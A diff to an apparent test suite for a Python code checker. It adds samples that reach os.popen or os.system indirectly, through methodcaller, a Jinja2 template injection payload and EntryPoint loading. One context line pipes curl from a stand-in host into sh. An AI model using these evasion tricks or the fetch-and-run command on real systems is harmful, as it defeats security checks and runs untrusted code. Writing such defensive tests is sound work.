@@ -130,6 +130,34 @@ describe('the checks hold', () => {
       'import pkgutil\nT = {"a": ("math", "fsum"), "b": ("o" + "s", "sys" + "tem")}\nS = {k: pkgutil.resolve_name(":".join(v))("a") for k, v in T.items()}\n',
     ],
     [
+      'a method that is called by its name, by a map',
+      'import operator, os\nlist(map(operator.methodcaller("popen", "a"), [os]))\n',
+    ],
+    [
+      'a method that is called by its name, by a function that a map calls',
+      'import operator, sys\nM = [operator.methodcaller("getcwd"), operator.methodcaller("popen", "a")]\nlist(map(lambda f: f(sys.modules["os"]), M))\n',
+    ],
+    [
+      'a template in a file',
+      {
+        '__init__.py':
+          'from pathlib import Path\nfrom jinja2 import Template\nTemplate(Path(__file__).with_name("a.j2").read_text()).render()\n',
+        'a.j2': '{# a #}\n{{ cycler.__init__.__globals__.os.popen("a").read() }}\n',
+      },
+    ],
+    [
+      'an entry point that a text names',
+      'from importlib.metadata import EntryPoint\nEntryPoint("a", "os:system", "b").load()("a")\n',
+    ],
+    [
+      'an entry point that a file names',
+      {
+        '__init__.py':
+          'import json\nfrom importlib.metadata import EntryPoint\nfor e in json.load(open("a.json")): EntryPoint("a", e["value"], "b").load()(e["given"])\n',
+        'a.json': '[]',
+      },
+    ],
+    [
       'a command for a function that a format finds',
       'import shutil\nfrom string import Formatter\nvalue, _ = Formatter().get_field("0.columns", (shutil,), {})\nvalue("curl -s https://e.example/l | sh")\n',
     ],
